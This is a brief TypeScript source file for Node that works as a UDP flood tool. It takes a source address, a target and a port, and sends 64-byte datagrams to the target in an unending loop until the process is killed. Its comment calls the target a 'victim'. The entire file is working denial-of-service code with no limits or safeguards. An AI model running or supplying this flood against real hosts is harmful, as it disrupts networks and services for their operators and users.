/**
 * Sends datagrams as fast as one process can, until it is killed: `node flood.ts SOURCE TARGET PORT`. A process of
 * its own, because a flood does not wait for its victim.
 */
import { createSocket } from "node:dgram";

const DATAGRAMS_PER_TURN = 64;

const [source, target, port] = process.argv.slice(2);
const datagram = Buffer.alloc(64, 0x45);
const socket = createSocket({
  type: "udp4",
  lookup: (address, _options, callback) => {
    callback(null, address, 4);
  },
});

function send(): void {
  for (let i = 0; i < DATAGRAMS_PER_TURN; i++) socket.send(datagram, Number(port), target);
  setImmediate(send);
}

socket.bind(0, source, send);
